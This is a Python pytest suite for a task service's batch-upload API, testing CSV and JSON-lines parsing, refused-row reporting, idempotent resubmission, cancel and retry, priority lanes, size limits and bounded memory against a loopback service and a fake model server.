"""Batches over a dataset, against a real service on loopback and the fake model server: CSV
and JSON-lines uploads, refused rows with their line numbers, atomic batches, results in input
order, cancel, retry of failed rows, idempotent resubmission, the batch lane below single
tasks, and flat memory over a large upload."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest
from sqlalchemy import event
from sqlalchemy.engine import Engine

import orchestra.batches
from orchestra.config import Settings, TemplateSettings
from orchestra.db import Database, TaskStore
from tests.conftest import Service, StartService, rows_by_status, sql_rows
from tests.fixtures.fake_ollama import FakeOllama
from tests.fixtures.logs import captured, events
from tests.fixtures.servers import loopback_server, wait_until

ROWJOB = """\
name: rowjob
model: llama3.2
parameters:
  text: {type: string, required: true, max_length: 2000}
  n: {type: integer, default: 1, minimum: 0}
steps:
  - id: answer
    prompt: "{{ params.text }}|{{ params.n }}"
    format:
      type: object
      properties: {echo: {type: string}, n: {type: integer}}
      required: [echo, n]
output: "{{ steps.answer.output }}"
"""


def json_reply(request: dict[str, Any]) -> str:
    """The prompt back as a JSON object; a prompt starting with FAIL gets no JSON at all."""
    prompt = request["messages"][-1]["content"]
    text, _, n = prompt.rpartition("|")
    if text.startswith("FAIL"):
        return "no json here"
    return json.dumps({"echo": text, "n": int(n)})


@pytest.fixture
def batch_settings(settings: Settings, tmp_path: Path, fake_ollama: FakeOllama) -> Settings:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "rowjob.yaml").write_text(ROWJOB)
    fake_ollama.reply = json_reply
    return msgspec.structs.replace(settings, templates=TemplateSettings(dirs=[str(folder)]))


def no_workers(settings: Settings) -> Settings:
    return msgspec.structs.replace(
        settings, server=msgspec.structs.replace(settings.server, workers=False)
    )


@pytest.fixture
async def svc(batch_settings: Settings, start_service: StartService) -> AsyncIterator[Service]:
    async with start_service(batch_settings) as service:
        yield service


@pytest.fixture
async def idle(batch_settings: Settings, start_service: StartService) -> AsyncIterator[Service]:
    """A service whose workers do not run: rows stay queued."""
    async with start_service(no_workers(batch_settings)) as service:
        yield service


async def upload(
    svc: Service, body: bytes | Any, fmt: str = "csv", expect: int = 201, **query: Any
) -> dict[str, Any]:
    params = {"template": "rowjob", "format": fmt, "max_attempts": 1, **query}
    headers = {}
    if "key" in params:
        headers["Idempotency-Key"] = params.pop("key")
    response = await svc.client.post(
        "/api/v1/batches", params=params, content=body, headers=headers
    )
    assert response.status_code == expect, response.text
    answer: dict[str, Any] = response.json()
    return answer


async def finished(svc: Service, batch_id: int, timeout: float = 30.0) -> dict[str, Any]:
    """The batch's progress once no row is queued or running."""
    seen: dict[str, Any] = {}

    async def done() -> bool:
        response = await svc.client.get(f"/api/v1/batches/{batch_id}")
        seen.update(response.json())
        counts = seen["counts"]
        return bool(counts.get("queued", 0) + counts.get("running", 0) == 0)

    await wait_until(done, timeout=timeout, interval=0.05)
    return seen


async def results(svc: Service, batch_id: int, fmt: str = "jsonl") -> str:
    response = await svc.client.get(f"/api/v1/batches/{batch_id}/results", params={"format": fmt})
    assert response.status_code == 200, response.text
    return response.text


async def test_a_csv_batch_runs_every_good_row_and_reports_a_bad_one_with_its_line(
    svc: Service,
) -> None:
    body = b'text,n\nalpha,1\n"multi\nline",2\nbeta,not-a-number\ngamma,\ndelta,4\n'
    answer = await upload(svc, body)
    assert answer["read"] == 5 and answer["refused"] == 1
    (problem,) = answer["problems"]
    # Row 3 starts on line 5: the header is line 1 and row 2 spans lines 3 and 4.
    assert (problem["row"], problem["line"]) == (3, 5)
    assert problem["fields"][0]["field"] == "params.n"
    batch_id = answer["batch"]["id"]
    progress = await finished(svc, batch_id)
    assert progress["counts"]["succeeded"] == 4 and progress["counts"]["invalid"] == 1
    assert progress["progress"] == 1.0 and progress["eta_seconds"] == 0.0

    lines = [json.loads(line) for line in (await results(svc, batch_id)).splitlines()]
    assert [r["row"] for r in lines] == [1, 2, 3, 4, 5]
    assert [r["status"] for r in lines] == ["succeeded"] * 2 + ["invalid"] + ["succeeded"] * 2
    assert lines[1]["result"] == {"echo": "multi\nline", "n": 2}
    assert lines[3]["result"] == {"echo": "gamma", "n": 1}  # an empty cell: the default
    assert lines[2]["error"]["fields"][0]["field"] == "params.n"

    table = list(csv.DictReader(io.StringIO(await results(svc, batch_id, "csv"))))
    assert [r["row"] for r in table] == ["1", "2", "3", "4", "5"]
    # Each format says what it is (CSV was sent as application/x-ndjson, the route's own type).
    for fmt, kind in (("csv", "text/csv; charset=utf-8"), ("jsonl", "application/x-ndjson")):
        answer = await svc.client.get(f"/api/v1/batches/{batch_id}/results?format={fmt}")
        assert answer.headers["content-type"] == kind, fmt
    document = (await svc.client.get("/schema/openapi.json")).json()
    ok = document["paths"]["/api/v1/batches/{batch_id}/results"]["get"]["responses"]["200"]
    assert set(ok["content"]) == {"application/x-ndjson", "text/csv"}
    assert table[0]["result.echo"] == "alpha" and table[0]["result.n"] == "1"
    assert table[2]["status"] == "invalid" and table[2]["result.echo"] == ""
    # The error cell says why, as the JSON line's fields do: which field, and what is wrong.
    field = lines[2]["error"]["fields"][0]
    assert table[2]["error"] == f"{lines[2]['error']['message']}: params.n: {field['message']}"


async def test_a_jsonl_batch_counts_lines_past_blank_ones_and_keeps_input_order(
    svc: Service,
) -> None:
    rows = [json.dumps({"text": f"row {i}", "n": i}) for i in range(1, 31)]
    rows.insert(3, "")  # a blank line: no row, but a line
    rows.insert(10, "[1, 2]")  # not an object
    answer = await upload(svc, ("\n".join(rows) + "\n").encode(), fmt="jsonl")
    assert answer["refused"] == 1
    assert (answer["problems"][0]["row"], answer["problems"][0]["line"]) == (10, 11)
    batch_id = answer["batch"]["id"]
    await finished(svc, batch_id)
    lines = [json.loads(line) for line in (await results(svc, batch_id)).splitlines()]
    assert [r["row"] for r in lines] == list(range(1, 32))
    good = [r["result"]["n"] for r in lines if r["status"] == "succeeded"]
    assert good == list(range(1, 31))


async def test_refused_counts_every_refused_row_past_the_hundred_listed(idle: Service) -> None:
    """``refused`` is how many rows were refused; ``problems`` lists the first 100 (the count
    stopped at 100 too, so a client never learnt how many more there were)."""
    body = b"text,n\n" + b"bad,-1\n" * 250 + b"good,1\n"
    answer = await upload(idle, body)
    assert (answer["read"], answer["refused"], len(answer["problems"])) == (251, 250, 100)
    assert answer["batch"]["invalid"] == 250 and answer["batch"]["rows"] == 251
    atomic = await upload(idle, body, expect=422, atomic="true")
    assert atomic["message"].startswith("250 row(s) refused; an atomic batch queues none")


async def test_csv_line_ends_and_unnamed_columns_are_said_plainly(idle: Service) -> None:
    """A file whose lines end with a carriage return alone was refused in Python's words
    ("do you need to open the file in universal-newline mode?"); a value in a column the
    header names not was "params.: unknown parameter"."""
    cr_only = await idle.client.post(
        "/api/v1/batches",
        params={"template": "rowjob", "format": "csv"},
        content=b"text,n\ra,1\rb,2\r",
    )
    assert cr_only.status_code == 400, cr_only.text
    said = cr_only.json()
    assert "carriage return" in said["message"] and "universal" not in said["message"], said
    assert said["fields"][0]["field"] == "body"
    answer = await upload(idle, b"text,n,\nfine,1,\nextra,2,surprise\n")
    assert answer["refused"] == 1, answer
    [problem] = answer["problems"]
    assert problem["row"] == 2
    assert problem["message"] == "cell 3 has a value, but the header names no column 3", problem


async def test_an_atomic_batch_with_one_bad_row_queues_nothing(svc: Service, db_url: str) -> None:
    body = b"text,n\nok,1\nbad,-5\nok too,2\n"
    response = await svc.client.post(
        "/api/v1/batches",
        params={"template": "rowjob", "atomic": "true"},
        content=body,
        headers={"Content-Type": "text/csv"},
    )
    assert response.status_code == 422, response.text
    fields = response.json()["fields"]
    assert fields[0]["field"] == "row 2 (line 3): params.n"
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(0,)]
    assert sql_rows(db_url, "SELECT count(*) FROM batches") == [(0,)]
    # All good: all queued.
    good = await upload(svc, b"text\na\nb\n", atomic="true")
    assert good["batch"]["rows"] == 2 and good["batch"]["atomic"] is True
    await finished(svc, good["batch"]["id"])


async def test_sending_a_batch_again_with_its_key_resumes_it_without_repeating_a_row(
    idle: Service, db_url: str
) -> None:
    full = b"text\n" + b"".join(b"row %d\n" % i for i in range(1, 1201))
    half = full[: full.index(b"row 700\n")]
    first = await upload(idle, half, key="data-v1")
    assert first["batch"]["rows"] == 699
    again = await upload(idle, full, expect=200, key="data-v1")
    assert again["batch"]["id"] == first["batch"]["id"] and again["batch"]["rows"] == 1200
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(1200,)]
    await upload(idle, full, expect=200, key="data-v1")
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(1200,)]
    # The same key with other options is a conflict.
    await upload(idle, full, expect=409, key="data-v1", priority=5)


async def test_a_batch_key_beyond_ascii_is_utf_8_and_a_bad_one_is_refused_by_name(
    idle: Service, db_url: str
) -> None:
    """As for tasks: the header's bytes are UTF-8, kept as typed; anything else is a 400
    naming the header, and nothing is queued."""
    first = await upload(idle, b"text\na\n", key="lot-é".encode())
    again = await upload(idle, b"text\na\nb\n", expect=200, key="lot-é".encode())
    assert again["batch"]["id"] == first["batch"]["id"] and again["batch"]["rows"] == 2
    assert sql_rows(db_url, "SELECT idempotency_key FROM batches") == [("lot-é",)]
    for raw, reason in (
        (b"lot-\xe9", "UTF-8"),
        (b"a\tb", "control character"),
        ("é".encode() * 256, "limit is 255"),
    ):
        refused = await upload(idle, b"text\nc\n", expect=400, key=raw)
        assert [f["field"] for f in refused["fields"]] == ["Idempotency-Key"], refused
        assert reason in refused["fields"][0]["message"], refused
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(2,)]


async def test_cancel_stops_every_queued_row(idle: Service) -> None:
    answer = await upload(idle, b"text\n" + b"x\n" * 40)
    batch_id = answer["batch"]["id"]
    response = await idle.client.post(f"/api/v1/batches/{batch_id}/cancel")
    assert response.status_code == 200, response.text
    assert response.json()["changed"] == 40
    progress = (await idle.client.get(f"/api/v1/batches/{batch_id}")).json()
    assert progress["counts"]["cancelled"] == 40 and progress["batch"]["cancelled_at"]


async def test_retry_queues_the_failed_rows_again(svc: Service, fake_ollama: FakeOllama) -> None:
    answer = await upload(svc, b"text\nfine\nFAIL one\nalso fine\nFAIL two\n")
    batch_id = answer["batch"]["id"]
    progress = await finished(svc, batch_id)
    assert progress["counts"] == rows_by_status(succeeded=2, failed=2)
    failed = json.loads((await results(svc, batch_id)).splitlines()[1])["error"]
    table = list(csv.DictReader(io.StringIO(await results(svc, batch_id, "csv"))))
    assert table[1]["error"] == f"step {failed['step']}: {failed['message']}"
    fake_ollama.reply = lambda request: json.dumps({"echo": "fixed", "n": 0})
    response = await svc.client.post(f"/api/v1/batches/{batch_id}/retry")
    assert response.json()["changed"] == 2
    progress = await finished(svc, batch_id)
    assert progress["counts"]["succeeded"] == 4
    lines = [json.loads(line) for line in (await results(svc, batch_id)).splitlines()]
    assert [r["result"]["echo"] for r in lines] == ["fine", "fixed", "also fine", "fixed"]


async def test_a_single_task_is_claimed_before_every_waiting_batch_row(
    idle: Service, db_url: str
) -> None:
    answer = await upload(idle, b"text\n" + b"row\n" * 50, priority=1000)
    single = await idle.submit("rowjob", text="interactive")  # priority 0, queued last
    database = Database(db_url)
    try:
        (claimed,) = await TaskStore(database).claim("probe", 1, 30)
    finally:
        await database.close()
    assert claimed.id == single["id"]
    assert answer["batch"]["priority"] == 1000
    assert sql_rows(
        db_url, "SELECT min(priority), max(priority) FROM tasks WHERE id <> ?", (single["id"],)
    ) == [(-1001, -1001)]


async def test_bad_uploads_get_a_4xx_naming_the_field(idle: Service) -> None:
    response = await idle.client.post(
        "/api/v1/batches", params={"template": "rowjob"}, content=b"text\nx\n"
    )
    assert response.status_code == 400 and response.json()["fields"][0]["field"] == "format"
    response = await idle.client.post(
        "/api/v1/batches", params={"format": "csv"}, content=b"text\nx\n"
    )
    assert response.status_code == 400
    assert response.json()["fields"] == [{"field": "template", "message": "is required"}]
    response = await idle.client.post(
        "/api/v1/batches", params={"template": "nope", "format": "csv"}, content=b"text\nx\n"
    )
    assert response.status_code == 404
    response = await idle.client.post(
        "/api/v1/batches", params={"template": "rowjob", "format": "jsonl"}, content=b"\xff\xfe\n"
    )
    assert response.status_code == 400 and response.json()["fields"][0]["field"] == "body"
    # A column named twice: one of its two cells would be lost.
    response = await idle.client.post(
        "/api/v1/batches",
        params={"template": "rowjob", "format": "csv"},
        content=b"text,text\nhi,there\n",
    )
    assert response.status_code == 400, response.text
    assert response.json()["fields"] == [
        {"field": "body", "message": "the CSV header names 'text' more than once"}
    ]
    assert (await idle.client.get("/api/v1/batches/987654")).status_code == 404
    listing = (await idle.client.get("/api/v1/batches")).json()
    assert listing == {"items": [], "next_cursor": None}
    # Unnamed columns (a spreadsheet's trailing commas) may repeat: their cells are empty.
    trailing = await upload(idle, b"text,n,,\nhi,1,,\n")
    assert (trailing["read"], trailing["refused"]) == (1, 0)


@pytest.fixture
async def small_rows(
    batch_settings: Settings, start_service: StartService
) -> AsyncIterator[Service]:
    """A service without workers whose rows may be at most 200 bytes ([limits] max_body_bytes)."""
    settings = no_workers(batch_settings)
    limits = msgspec.structs.replace(settings.limits, max_body_bytes=200)
    async with start_service(msgspec.structs.replace(settings, limits=limits)) as service:
        yield service


@pytest.mark.parametrize("chunk", [7, 100_000])
async def test_a_row_over_the_size_limit_is_refused_with_its_row_and_line_and_the_rest_go_on(
    small_rows: Service, chunk: int
) -> None:
    """An over-long row is one refused row, whatever the chunks it arrives in: its text is
    never held, and the rows after it are read (a 413 for the whole upload before, and the
    batch left ``loading``)."""
    long_line = json.dumps({"text": "x" * 500})
    jsonl = f'{{"text": "a"}}\n{long_line}\n\n{{"text": "b"}}\n{long_line}'.encode()
    csv_body = b'text\na\n"' + b"y" * 150 + b"\n" + b"y" * 150 + b'"\nb\n' + b"z" * 300 + b"\nc\n"

    async def chunked(body: bytes) -> AsyncIterator[bytes]:
        for start in range(0, len(body), chunk):
            yield body[start : start + chunk]

    for fmt, body, refused in (
        ("jsonl", jsonl, [(2, 2), (4, 5)]),
        ("csv", csv_body, [(2, 3), (4, 6)]),
    ):
        answer = await upload(small_rows, chunked(body), fmt=fmt)
        assert (answer["read"], answer["refused"]) == (5 if fmt == "csv" else 4, 2), answer
        assert [(p["row"], p["line"]) for p in answer["problems"]] == refused
        assert all("over 200 bytes" in p["message"] for p in answer["problems"])
        assert answer["batch"]["status"] == "loaded" and answer["batch"]["invalid"] == 2


async def test_a_csv_header_over_the_size_limit_is_a_413_naming_the_body(
    small_rows: Service,
) -> None:
    """Without its header no row can be read: the whole upload is refused, naming the body
    (its 413 named no field, unlike every 4xx of the API)."""
    header = ",".join(f"column{i}" for i in range(40)).encode()
    answer = await small_rows.client.post(
        "/api/v1/batches", params={"template": "rowjob", "format": "csv"}, content=header + b"\na\n"
    )
    assert answer.status_code == 413, answer.text
    assert answer.json()["code"] == "too_large"
    [problem] = answer.json()["fields"]
    assert problem["field"] == "body" and "CSV header" in problem["message"], problem
    assert "over 200 bytes" in problem["message"], problem


@pytest.mark.parametrize("key", [None, "cap-1"])
async def test_an_upload_past_the_row_cap_is_a_413_and_its_batch_closed(
    idle: Service, monkeypatch: pytest.MonkeyPatch, key: str | None
) -> None:
    """Past :data:`MAX_ROWS` the upload stops with a 413 naming the body, and its batch is
    closed with the rows read (sending it again, with its key too, would stop there again)."""
    monkeypatch.setattr(orchestra.batches, "MAX_ROWS", 1000)
    query = {} if key is None else {"key": key}
    answer = await upload(
        idle, b"text\n" + b"".join(b"r%d\n" % i for i in range(1003)), expect=413, **query
    )
    assert answer["code"] == "too_large", answer
    [problem] = answer["fields"]
    assert problem == {"field": "body", "message": "has more than 1,000 rows (a batch's most)"}
    assert "keeps the 1000 rows read before" in answer["message"], answer
    [batch] = (await idle.client.get("/api/v1/batches")).json()["items"]
    assert (batch["status"], batch["rows"]) == ("loaded", 1000), batch


async def test_a_client_gone_midway_leaves_no_batch_loading(idle: Service, db_url: str) -> None:
    """The commonest cut: the client hangs up halfway through a keyless upload. The rows read
    are kept and the batch closed (it stayed ``loading``, its last rows lost)."""
    host, port = idle.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(
        b"POST /api/v1/batches?template=rowjob&format=csv HTTP/1.1\r\nHost: %s:%s\r\n"
        b"Content-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n"
        % (host.encode(), port.encode())
    )
    rows = b"text\n" + b"".join(b"row %d\n" % i for i in range(1, 121))
    writer.write(b"%x\r\n%s\r\n" % (len(rows), rows))
    await writer.drain()

    async def listed(status: str) -> list[dict[str, Any]]:
        items = (await idle.client.get("/api/v1/batches")).json()["items"]
        return [b for b in items if b["status"] == status]

    await wait_until(lambda: listed("loading"), timeout=10)
    with captured(logging.WARNING) as logged:
        writer.close()  # gone, mid-body
        await wait_until(lambda: listed("loaded"), timeout=10)
        # Logged just after the batch is closed (its row count read in that transaction).
        await wait_until(lambda: events(logged, "batch.upload_cut"), timeout=10)
    [batch] = await listed("loaded")
    assert batch["rows"] == 120
    # Said as what happened (it was logged as error="InternalServerException").
    [cut] = events(logged, "batch.upload_cut")
    assert cut["error"] == "the client went away before the upload ended", cut
    assert (cut["batch_id"], cut["rows"]) == (batch["id"], 120)
    assert [e for e in logged if e["log_level"] in ("error", "critical")] == []
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(120,)]
    del reader


async def test_a_batch_whose_every_row_was_refused_is_finished(idle: Service) -> None:
    """Nothing to run: progress 1.0 (a script waiting for it would otherwise wait forever)."""
    answer = await upload(idle, b"text,n\nx,-1\ny,-2\n")
    assert (answer["refused"], answer["batch"]["invalid"]) == (2, 2)
    progress = (await idle.client.get(f"/api/v1/batches/{answer['batch']['id']}")).json()
    assert (progress["finished"], progress["progress"], progress["eta_seconds"]) == (0, 1.0, 0.0)


async def test_a_byte_that_is_not_utf8_keeps_every_row_before_its_line_and_names_it(
    idle: Service, db_url: str
) -> None:
    """The rows before the bad byte's line are kept, however the body is cut into chunks (the
    lines of its chunk before it were dropped: 14,596 rows of 100,000), and the error names
    its line and its byte in the body (it named a position in a chunk)."""
    good = b"text\n" + b"".join(b"row %d\n" % i for i in range(1, 3001))
    body = good + b"bad \xff row\n" + b"after\n"

    async def chunked() -> AsyncIterator[bytes]:  # the bad byte in the middle of a chunk
        yield good[:1000]
        yield good[1000:] + body[len(good) :]

    response = await idle.client.post(
        "/api/v1/batches", params={"template": "rowjob", "format": "csv"}, content=chunked()
    )
    assert response.status_code == 400, response.text
    error = response.json()
    offset = len(good) + 4
    assert f"not UTF-8 at line 3002 (byte offset {offset:,} in the body: 0xff)" in error["message"]
    assert error["fields"] == [{"field": "body", "message": "not UTF-8 at line 3002"}]
    (batch,) = (await idle.client.get("/api/v1/batches")).json()["items"]
    assert batch["rows"] == 3000 and "keeps the 3000 rows read before" in error["message"]
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(3000,)]


async def test_rows_read_after_a_cancel_are_cancelled_not_queued(idle: Service) -> None:
    """A batch cancelled while its upload goes on: the rows that arrive afterwards get their
    tasks cancelled as they are stored (they were queued, and ran)."""
    first = b"text\n" + b"".join(b"early %d\n" % i for i in range(1, 51))
    rest = b"".join(b"late %d\n" % i for i in range(1, 51))
    cancelled = asyncio.Event()

    async def chunked() -> AsyncIterator[bytes]:
        yield first

        async def loading() -> bool:
            listed = (await idle.client.get("/api/v1/batches")).json()["items"]
            return any(b["status"] == "loading" for b in listed)

        await wait_until(loading, timeout=10)
        await cancelled.wait()
        yield rest

    async def cancel() -> None:
        async def loading() -> list[int]:
            listed = (await idle.client.get("/api/v1/batches")).json()["items"]
            return [b["id"] for b in listed if b["status"] == "loading"]

        await wait_until(loading, timeout=10)
        [batch_id] = await loading()
        answer = await idle.client.post(f"/api/v1/batches/{batch_id}/cancel")
        assert answer.status_code == 200, answer.text
        cancelled.set()

    upload_call = idle.client.post(
        "/api/v1/batches",
        params={"template": "rowjob", "format": "csv"},
        content=chunked(),
        headers={"Idempotency-Key": "cancel-midway"},
    )
    response, _ = await asyncio.gather(upload_call, cancel())
    assert response.status_code == 201, response.text
    batch_id = response.json()["batch"]["id"]
    progress = (await idle.client.get(f"/api/v1/batches/{batch_id}")).json()
    assert progress["counts"] == rows_by_status(cancelled=100), progress["counts"]


async def test_a_body_cut_inside_a_character_is_named_as_any_bad_byte(idle: Service) -> None:
    body = b"text\nrow one\nrow \xe2\x82"  # the euro sign, cut after two of its three bytes
    response = await idle.client.post(
        "/api/v1/batches", params={"template": "rowjob", "format": "csv"}, content=body
    )
    assert response.status_code == 400, response.text
    error = response.json()
    assert "not UTF-8 at line 3 (byte offset 17 in the body: 0xe2)" in error["message"], error
    assert "keeps the 1 row read before" in error["message"]


async def test_an_upload_cut_short_by_an_error_leaves_no_batch_loading(
    idle: Service, db_url: str
) -> None:
    """Without an idempotency key nobody can resume a batch whose upload failed midway: it
    is closed with the rows read before the error, and the error says so."""
    body = b"text\n" + b"".join(b"row %d\n" % i for i in range(1, 121)) + b"\xff\xfe\n"

    good, bad = body.split(b"\xff")

    async def chunked() -> AsyncIterator[bytes]:
        """The good rows, then (once the service has read them: the batch is there) the bad
        bytes."""
        yield good

        async def opened() -> bool:
            listed = (await idle.client.get("/api/v1/batches")).json()["items"]
            return any(b["status"] == "loading" for b in listed)

        await wait_until(opened, timeout=10)
        yield b"\xff" + bad

    response = await idle.client.post(
        "/api/v1/batches", params={"template": "rowjob", "format": "csv"}, content=chunked()
    )
    assert response.status_code == 400, response.text
    error = response.json()
    assert error["fields"][0]["field"] == "body"
    (batch,) = (await idle.client.get("/api/v1/batches")).json()["items"]
    assert batch["status"] == "loaded" and batch["rows"] == 120
    assert f"batch {batch['id']} keeps the 120 rows read before" in error["message"]
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(120,)]
    # With a key the batch stays open, to be finished by sending the upload again.
    response = await idle.client.post(
        "/api/v1/batches",
        params={"template": "rowjob", "format": "csv"},
        content=chunked(),
        headers={"Idempotency-Key": "cut"},
    )
    assert response.status_code == 400 and "keeps" not in response.json()["message"]
    listed = (await idle.client.get("/api/v1/batches")).json()["items"]
    assert [b["status"] for b in listed] == ["loading", "loaded"]
    assert listed[0]["rows"] == 0  # counted when its upload is finished
    assert sql_rows(db_url, "SELECT count(*) FROM tasks") == [(240,)]
    # Its progress is over the rows queued so far, not 0 while they finish.
    loading = listed[0]["id"]
    cancelled = await idle.client.post(f"/api/v1/batches/{loading}/cancel")
    assert cancelled.status_code == 200, cancelled.text
    state = (await idle.client.get(f"/api/v1/batches/{loading}")).json()
    assert state["counts"] == rows_by_status(cancelled=120)
    assert (state["finished"], state["progress"]) == (120, 1.0)


async def test_a_rows_task_shows_the_priority_its_batch_asked_for(
    idle: Service, db_url: str
) -> None:
    answer = await upload(idle, b"text\nrow\n", priority=7)
    [(task_id, stored)] = sql_rows(
        db_url,
        "SELECT t.id, t.priority FROM batch_rows AS r JOIN tasks AS t ON t.id = r.task_id "
        "WHERE r.batch_id = ?",
        (answer["batch"]["id"],),
    )
    assert stored == 7 - 2001  # queued in the batch lane, below every single task
    assert (await idle.client.get(f"/api/v1/tasks/{task_id}")).json()["priority"] == 7
    page = (await idle.client.get(f"/ui/tasks/{task_id}")).text
    assert "<dt>Priority</dt><dd>7</dd>" in page
    form = (await idle.client.get(f"/ui/templates/rowjob?from={task_id}")).text
    assert 'name="opt.priority" type="number" step="1" value="7"' in form
    # The lanes do not overlap: a single task at the lowest priority keeps it, and so does a
    # batch at the lowest.
    single = await idle.client.post(
        "/api/v1/tasks", json={"template": "rowjob", "params": {"text": "x"}, "priority": -1000}
    )
    assert single.json()["priority"] == -1000
    lowest = await upload(idle, b"text\nrow\n", priority=-1000)
    [(low_id,)] = sql_rows(
        db_url, "SELECT task_id FROM batch_rows WHERE batch_id = ?", (lowest["batch"]["id"],)
    )
    assert (await idle.client.get(f"/api/v1/tasks/{low_id}")).json()["priority"] == -1000


async def test_retry_of_the_cancelled_rows_resumes_a_cancelled_batch(idle: Service) -> None:
    answer = await upload(idle, b"text\n" + b"x\n" * 30)
    batch_id = answer["batch"]["id"]
    assert (await idle.client.post(f"/api/v1/batches/{batch_id}/cancel")).json()["changed"] == 30
    retry = f"/api/v1/batches/{batch_id}/retry"
    # By default a retry is of the failed rows only: none here.
    assert (await idle.client.post(retry)).json()["changed"] == 0
    resumed = await idle.client.post(retry, params={"statuses": "cancelled"})
    assert resumed.status_code == 200, resumed.text
    assert resumed.json()["changed"] == 30
    progress = (await idle.client.get(f"/api/v1/batches/{batch_id}")).json()
    assert progress["counts"] == rows_by_status(queued=30)
    assert progress["batch"]["cancelled_at"] is None  # resumed: no longer cancelled
    both = await idle.client.post(retry, params=[("statuses", "failed"), ("statuses", "cancelled")])
    assert both.status_code == 200 and both.json()["changed"] == 0  # all queued now
    wrong = await idle.client.post(retry, params={"statuses": "succeeded"})
    assert wrong.status_code == 400, wrong.text
    assert wrong.json()["fields"][0]["field"].startswith("statuses")


@contextmanager
def rows_read() -> Iterator[list[str]]:
    """The statements that read batch rows (the tallies' count among them) meanwhile."""
    statements: list[str] = []

    def seen(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if "batch_rows" in statement:
            statements.append(statement)

    event.listen(Engine, "before_cursor_execute", seen)
    try:
        yield statements
    finally:
        event.remove(Engine, "before_cursor_execute", seen)


async def test_the_list_gives_each_batch_its_counts_in_one_read(idle: Service) -> None:
    first = await upload(idle, b"text,n\na,1\nb,-1\nc,2\n")
    second = await upload(idle, b"text\n" + b"x\n" * 5)
    await idle.client.post(f"/api/v1/batches/{second['batch']['id']}/cancel")
    with rows_read() as statements:
        listing = (await idle.client.get("/api/v1/batches")).json()
    newest, oldest = listing["items"]
    assert newest["id"] == second["batch"]["id"] and oldest["id"] == first["batch"]["id"]
    assert newest["counts"] == rows_by_status(cancelled=5)
    assert (newest["finished"], newest["progress"]) == (5, 1.0)
    assert oldest["counts"] == rows_by_status(queued=2, invalid=1)
    assert (oldest["finished"], oldest["progress"], oldest["eta_seconds"]) == (0, 0.0, None)
    assert oldest["priority"] == 0 and oldest["rows"] == 3
    assert len(statements) == 1, statements  # one grouped read for the page, not one a batch
    # The progress of one batch reads the same.
    progress = (await idle.client.get(f"/api/v1/batches/{first['batch']['id']}")).json()
    assert progress["counts"] == oldest["counts"]


async def test_the_openapi_document_describes_the_uploads_body(idle: Service) -> None:
    doc = (await idle.client.get("/schema/openapi.json")).json()
    body = doc["paths"]["/api/v1/batches"]["post"]["requestBody"]
    assert body["required"] is True
    assert {"text/csv", "application/x-ndjson", "application/jsonl"} <= set(body["content"])
    assert body["content"]["text/csv"]["schema"]["type"] == "string"
    retry = doc["paths"]["/api/v1/batches/{batch_id}/retry"]["post"]["parameters"]
    (statuses,) = [p for p in retry if p["name"] == "statuses"]
    assert "cancelled" in json.dumps(statuses["schema"])
    listed = doc["components"]["schemas"]
    assert any(
        "counts" in s.get("properties", {}) and "template" in s.get("properties", {})
        for s in listed.values()
    )


def rss_kib() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


async def test_a_large_upload_stays_in_bounded_memory(idle: Service, db_url: str) -> None:
    """20,000 rows of 1 KB (20 MB): the service (in this process) reads them as a stream; a
    body held whole, or its rows parsed at once, would add several times that."""
    rows, filler = 20_000, "x" * 1000

    async def body() -> AsyncIterator[bytes]:
        yield b"text,n\n"
        for start in range(0, rows, 500):
            yield b"".join(
                b"%s %d,%d\n" % (filler.encode(), i, i) for i in range(start, start + 500)
            )
            await asyncio.sleep(0)

    await upload(idle, b"text\nwarm up\n")  # first-use allocations out of the figure
    base = peak = rss_kib()
    done = asyncio.Event()

    async def sample() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, rss_kib())
            await asyncio.sleep(0.02)

    sampler = asyncio.create_task(sample())
    try:
        answer = await upload(idle, body())
    finally:
        done.set()
        await sampler
    assert answer["batch"]["rows"] == rows and answer["refused"] == 0
    growth_mib = (peak - base) / 1024
    print(f"RSS growth over a {rows}-row upload: {growth_mib:.1f} MiB")
    assert growth_mib < 20, f"RSS grew {growth_mib:.1f} MiB"
    assert sql_rows(db_url, "SELECT count(*) FROM batch_rows") == [(rows + 1,)]


async def run_cli(*args: str) -> tuple[int, str, str]:
    """`orchestra batch run ARGS`: its exit status, stdout and stderr."""
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "orchestra",
        "batch",
        "run",
        *args,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(proc.communicate(), timeout=60)
    return proc.returncode or 0, out.decode(), err.decode()


async def test_the_cli_runs_a_file_and_a_second_run_is_a_new_batch(
    svc: Service, tmp_path: Path, db_url: str, fake_ollama: FakeOllama
) -> None:
    data = tmp_path / "data.csv"
    data.write_text("text,n\n" + "".join(f"line {i},{i}\n" for i in range(1, 41)) + "bad,-1\n")
    out = tmp_path / "results.jsonl"
    code, printed, output = await run_cli("rowjob", str(data), "-o", str(out), "--url", svc.url)
    assert code == 1, output  # a row was refused: said, and the exit status says so
    assert "row 41 (line 42) refused: params.n:" in output, output
    assert "1 of 41 rows did not succeed" in output
    # What scripts read on stdout: the batch's id alone; what people read on stderr.
    [(first_batch,)] = sql_rows(db_url, "SELECT max(batch_id) FROM batch_rows")
    assert printed == f"{first_batch}\n", printed
    assert f"batch {first_batch}: 1 invalid, 40 succeeded; results in {out}" in output
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["row"] for r in lines] == list(range(1, 42))
